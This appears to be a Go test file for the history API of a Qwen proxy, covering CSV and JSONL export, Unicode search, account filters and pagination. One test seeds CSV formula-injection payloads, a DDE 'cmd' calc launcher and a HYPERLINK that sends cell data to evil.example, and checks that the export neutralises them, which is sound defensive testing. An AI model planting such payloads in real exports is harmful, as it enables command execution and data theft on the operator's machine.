package historyapi

import (
	"context"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strconv"
	"strings"
	"testing"
	"time"

	qp "qwenproxy"
	"qwenproxy/internal/store/sqlstore"
	"qwenproxy/internal/store/storetest"
)

type nopSessions struct{}

func (nopSessions) Forget(string) {}

type nopRecorder struct{}

func (nopRecorder) Sync(context.Context) error       { return nil }
func (nopRecorder) InDatabase(context.Context) error { return nil }

// apiOver serves the history API over the real database at dbURL.
func apiOver(t *testing.T, dbURL string) (*API, *sqlstore.Store) {
	t.Helper()
	st := storetest.Open(t, dbURL)
	sessions, requests, responses := sqlstore.SortFields()
	return New(Deps{History: st, Tickets: st, Sessions: nopSessions{}, Recorder: nopRecorder{},
		Sorts: SortFields{Sessions: sessions, Requests: requests, Responses: responses}}), st
}

// seedCalls records one session of n successful calls, an hour ago.
func seedCalls(t *testing.T, st *sqlstore.Store, n int) {
	t.Helper()
	at := time.UnixMilli(time.Now().Add(-time.Hour).UnixMilli())
	b := qp.Batch{Sessions: []qp.Session{{ID: "s-1", ChatID: "chat-1", ParentID: "p", Model: "qwen3-max", FirstUserMessage: "hello",
		MessageCount: n, ConversationKey: "k1", CreatedAt: at, LastAccessed: at, ExpiresAt: at.Add(time.Hour)}}}
	for i := range n {
		ts := at.Add(time.Duration(i) * time.Second)
		b.Exchanges = append(b.Exchanges, qp.Exchange{
			Request: qp.Request{RequestID: fmt.Sprintf("req-%d", i), SessionID: "s-1", Timestamp: ts, Method: "POST",
				Path: "/v1/chat/completions", Model: "qwen3-max", ClientIP: "127.0.0.1", UserAgent: "test"},
			Response: qp.Response{ResponseID: fmt.Sprintf("resp-%d", i), Timestamp: ts.Add(time.Millisecond), Status: qp.StatusSuccess,
				HTTPStatus: 200, FinishReason: "stop", Duration: time.Millisecond, UpstreamAttempts: 1}})
	}
	mustWrite(t, st, b)
}

// mustWrite records b in st, failing the test if it cannot.
func mustWrite(t *testing.T, st *sqlstore.Store, b qp.Batch) {
	t.Helper()
	if err := st.WriteBatch(context.Background(), b); err != nil {
		t.Fatal(err)
	}
}

func serve(handler http.HandlerFunc, method, target string) *httptest.ResponseRecorder {
	w := httptest.NewRecorder()
	handler(w, httptest.NewRequest(method, target, nil))
	return w
}

// A CSV export is its header line and a line per call, also when no call
// matches: the CLI's export of the same filters writes the header too.
func TestCSVExportWithoutRowsHasItsHeader(t *testing.T) {
	storetest.Each(t, testCSVExportWithoutRowsHasItsHeader)
}

func testCSVExportWithoutRowsHasItsHeader(t *testing.T, dbURL string) {
	a, st := apiOver(t, dbURL)
	seedCalls(t, st, 2)
	header := strings.Join(ExportCSVHeader, ",") + "\n"
	w := serve(a.Export, "GET", "/v1/export?format=csv&status=error")
	if w.Code != 200 || w.Body.String() != header || w.Header().Get("Content-Type") != "text/csv; charset=utf-8" {
		t.Fatalf("csv export of no calls: %d %q %v, want the header line", w.Code, w.Body, w.Header())
	}
	w = serve(a.Export, "GET", "/v1/export?format=csv&status=success")
	if lines := strings.Split(w.Body.String(), "\n"); w.Code != 200 || len(lines) != 4 || lines[0]+"\n" != header || lines[3] != "" {
		t.Fatalf("csv export of two calls: %d %q", w.Code, w.Body)
	}
	// JSONL has no header: no calls, no lines.
	if w = serve(a.Export, "GET", "/v1/export?status=error"); w.Code != 200 || w.Body.Len() != 0 {
		t.Fatalf("jsonl export of no calls: %d %q", w.Code, w.Body)
	}
}

// An export whose first read fails has sent nothing yet: it answers the
// history's 503, not a 200 with an empty (or header-only) body.
func TestExportThatFailsBeforeAnyRowSaysSo(t *testing.T) {
	storetest.Each(t, testExportThatFailsBeforeAnyRowSaysSo)
}

func testExportThatFailsBeforeAnyRowSaysSo(t *testing.T, dbURL string) {
	a, st := apiOver(t, dbURL)
	seedCalls(t, st, 1)
	st.Close()
	for _, format := range []string{"csv", "jsonl"} {
		w := serve(a.Export, "GET", "/v1/export?format="+format)
		var body struct{ Error struct{ Code string } }
		if err := json.Unmarshal(w.Body.Bytes(), &body); err != nil || w.Code != 503 || body.Error.Code != "database_error" ||
			w.Header().Get("Content-Disposition") != "" {
			t.Errorf("%s export of a closed database: %d %v %q", format, w.Code, w.Header(), w.Body)
		}
	}
}

// Session search is case-insensitive for every letter, not ASCII alone:
// SQLite's lower() folded only A–Z, so ?search=HÉLLO missed "héllo".
func TestSessionSearchFoldsEveryLetter(t *testing.T) {
	storetest.Each(t, testSessionSearchFoldsEveryLetter)
}

func testSessionSearchFoldsEveryLetter(t *testing.T, dbURL string) {
	a, st := apiOver(t, dbURL)
	at := time.UnixMilli(time.Now().Add(-time.Hour).UnixMilli())
	var b qp.Batch
	for i, first := range []string{"héllo wörld", "ПРИВЕТ, мир", "Ärger im Büro", "hello world"} {
		b.Sessions = append(b.Sessions, qp.Session{ID: fmt.Sprintf("s-%d", i), ChatID: fmt.Sprintf("chat-%d", i), ParentID: "p", Model: "qwen3-max",
			FirstUserMessage: first, MessageCount: 1, ConversationKey: fmt.Sprintf("k%d", i), CreatedAt: at, LastAccessed: at, ExpiresAt: at.Add(time.Hour)})
	}
	mustWrite(t, st, b)
	for search, want := range map[string]string{"HÉLLO": "s-0", "héllo WÖ": "s-0", "привет": "s-1", "мИр": "s-1", "ärger IM bÜRO": "s-2",
		"HELLO": "s-3", "Hello W": "s-3"} {
		w := serve(a.ListSessions, "GET", "/v1/sessions?search="+url.QueryEscape(search))
		var page struct{ Data []struct{ ID string } }
		if err := json.Unmarshal(w.Body.Bytes(), &page); err != nil || w.Code != 200 || len(page.Data) != 1 || page.Data[0].ID != want {
			t.Errorf("search %q: %d %s, want only %s", search, w.Code, w.Body, want)
		}
	}
}

// The session list takes the account filter the call lists and statistics
// take: sessions have an account (the one their Qwen chat belongs to).
func TestSessionListTakesAnAccount(t *testing.T) { storetest.Each(t, testSessionListTakesAnAccount) }

func testSessionListTakesAnAccount(t *testing.T, dbURL string) {
	a, st := apiOver(t, dbURL)
	seedAccounts(t, st)
	for query, want := range map[string]string{"account=cookie": "s-0,s-2", "account=ada%40example.com": "s-1",
		"account=nobody%40example.com": "", "account=cookie&model=qwen3-coder-plus": "s-2", "": "s-0,s-1,s-2"} {
		w := serve(a.ListSessions, "GET", "/v1/sessions?sort=created_at&order=asc&"+query)
		var page struct {
			Data []struct{ ID, Account string }
		}
		if err := json.Unmarshal(w.Body.Bytes(), &page); err != nil || w.Code != 200 {
			t.Fatalf("%s: %d %s", query, w.Code, w.Body)
		}
		var ids []string
		for _, s := range page.Data {
			ids = append(ids, s.ID)
		}
		if got := strings.Join(ids, ","); got != want {
			t.Errorf("%s: %s, want %s", query, got, want)
		}
	}
}

// seedAccounts records three sessions: s-0 and s-2 on the pasted cookie,
// s-1 on ada@example.com; s-2 of another model.
func seedAccounts(t *testing.T, st *sqlstore.Store) {
	t.Helper()
	at := time.UnixMilli(time.Now().Add(-time.Hour).UnixMilli())
	var b qp.Batch
	for i, account := range []string{"cookie", "ada@example.com", "cookie"} {
		model := "qwen3-max"
		if i == 2 {
			model = "qwen3-coder-plus"
		}
		ts := at.Add(time.Duration(i) * time.Minute)
		b.Sessions = append(b.Sessions, qp.Session{ID: fmt.Sprintf("s-%d", i), ChatID: fmt.Sprintf("chat-%d", i), ParentID: "p", Model: model,
			FirstUserMessage: "hi", MessageCount: 1, ConversationKey: fmt.Sprintf("k%d", i), CreatedAt: ts, LastAccessed: ts, ExpiresAt: ts.Add(time.Hour),
			Account: account})
	}
	mustWrite(t, st, b)
}

// A page reached by before= gives a next_cursor only when rows follow it:
// when the rows of the page it was reached from had been deleted since
// (retention, a delete, while the dashboard showed them), its next_cursor
// led to an empty page (the dashboard's "older →" to "No calls match").
func TestPageBeforeGivesNextOnlyWhenRowsFollow(t *testing.T) {
	storetest.Each(t, testPageBeforeGivesNextOnlyWhenRowsFollow)
}

func testPageBeforeGivesNextOnlyWhenRowsFollow(t *testing.T, dbURL string) {
	a, st := apiOver(t, dbURL)
	seedCalls(t, st, 5)
	type page struct {
		Data []struct {
			ID        int64 `json:"id"`
			Timestamp int64 `json:"timestamp"`
		} `json:"data"`
		Next *string `json:"next_cursor"`
		Prev *string `json:"prev_cursor"`
	}
	list := func(query string) page {
		t.Helper()
		w := serve(a.ListRequests, "GET", "/v1/requests?limit=2&count=false"+query)
		var p page
		if err := json.Unmarshal(w.Body.Bytes(), &p); err != nil || w.Code != 200 {
			t.Fatalf("%s: %d %s", query, w.Code, w.Body)
		}
		return p
	}
	first := list("")
	second := list("&after=" + url.QueryEscape(*first.Next)) // calls 3 and 2
	if len(second.Data) != 2 || second.Prev == nil {
		t.Fatalf("second page: %+v", second)
	}
	// Back from it while it is there: the page the client came from follows.
	if back := list("&before=" + url.QueryEscape(*second.Prev)); back.Next == nil {
		t.Fatalf("a page reached by before= has no next_cursor while rows follow it: %+v", back)
	}
	// Calls 1 to 3 deleted: nothing follows calls 5 and 4 any more.
	if _, err := st.DeleteRequestsBefore(context.Background(), time.UnixMilli(first.Data[1].Timestamp), 500, nil); err != nil {
		t.Fatal(err)
	}
	back := list("&before=" + url.QueryEscape(*second.Prev))
	if len(back.Data) != 2 || back.Data[1].ID != first.Data[1].ID || back.Next != nil {
		t.Fatalf("back from deleted rows: %+v, want calls %d and %d and no next_cursor", back, first.Data[0].ID, first.Data[1].ID)
	}
	if rest := list("&after=" + url.QueryEscape(*first.Next)); len(rest.Data) != 0 {
		t.Fatalf("rows after the deleted ones: %+v", rest)
	}
}

// A CSV cell a spreadsheet would read as a formula (one that begins with =,
// +, -, @, a tab or a carriage return, as OWASP lists them) is exported
// with a ' before it, so a client's model name or error text cannot run
// in the operator's spreadsheet; quotes, commas and newlines stay in their
// cell, and the numbers are as they were.
func TestCSVExportEscapesFormulas(t *testing.T) {
	storetest.Each(t, testCSVExportEscapesFormulas)
}

func testCSVExportEscapesFormulas(t *testing.T, dbURL string) {
	a, st := apiOver(t, dbURL)
	at := time.UnixMilli(time.Now().Add(-time.Hour).UnixMilli())
	b := qp.Batch{Exchanges: []qp.Exchange{{
		Request: qp.Request{RequestID: "+1+cmd|' /C calc'!A0", Timestamp: at, Method: "POST", Path: "/v1/chat/completions",
			Model: `=HYPERLINK("https://evil.example/?"&A1,"x")`, ClientIP: "127.0.0.1", Account: "@SUM(1+1)"},
		Response: qp.Response{ResponseID: "r-1", Timestamp: at.Add(time.Millisecond), Status: qp.StatusError, HTTPStatus: 502,
			ErrorType: "\tupstream", ErrorMessage: "-2+3 said \"no\",\nthen\r=1", UpstreamErrors: []string{"\r=2"}, Duration: time.Millisecond, UpstreamAttempts: 1}}}}
	mustWrite(t, st, b)
	w := serve(a.Export, "GET", "/v1/export?format=csv")
	rows, err := csv.NewReader(strings.NewReader(w.Body.String())).ReadAll()
	if err != nil || len(rows) != 2 {
		t.Fatalf("csv export: %v %q", err, w.Body)
	}
	got := map[string]string{}
	for i, name := range rows[0] {
		got[name] = rows[1][i]
	}
	want := map[string]string{
		"request_id": "'+1+cmd|' /C calc'!A0", "model": `'=HYPERLINK("https://evil.example/?"&A1,"x")`, "account": "'@SUM(1+1)",
		"error_type": "'\tupstream", "error": "'-2+3 said \"no\",\nthen\r=1", "upstream_errors": "'\r=2",
		"path": "/v1/chat/completions", "http_status": "502", "upstream_attempts": "1",
	}
	for name, v := range want {
		if got[name] != v {
			t.Errorf("%s: %q, want %q", name, got[name], v)
		}
	}
}

// An export's range holds the calls at or after its start and before its
// end, as the README says: ranges that meet never export a call twice.
func TestExportRangeIncludesStartExcludesEnd(t *testing.T) {
	storetest.Each(t, testExportRangeIncludesStartExcludesEnd)
}

func testExportRangeIncludesStartExcludesEnd(t *testing.T, dbURL string) {
	a, st := apiOver(t, dbURL)
	seedCalls(t, st, 3) // a second apart, from an hour ago
	rows, err := csv.NewReader(strings.NewReader(serve(a.Export, "GET", "/v1/export?format=csv").Body.String())).ReadAll()
	if err != nil || len(rows) != 4 {
		t.Fatalf("export: %v %q", err, rows)
	}
	first, _ := strconv.ParseInt(rows[1][3], 10, 64) // timestamp, in Unix ms
	for _, c := range []struct {
		start, end int64
		want       int
	}{{first, first, 0}, {first, first + 1, 1}, {first, first + 1000, 1}, {first + 1000, first + 3000, 2}, {first, first + 3000, 3}} {
		w := serve(a.Export, "GET", fmt.Sprintf("/v1/export?format=csv&start=%d&end=%d", c.start, c.end))
		if got := strings.Count(w.Body.String(), "\n") - 1; w.Code != 200 || got != c.want {
			t.Errorf("start=+%d ms end=+%d ms: %d, %d calls, want %d", c.start-first, c.end-first, w.Code, got, c.want)
		}
	}
}
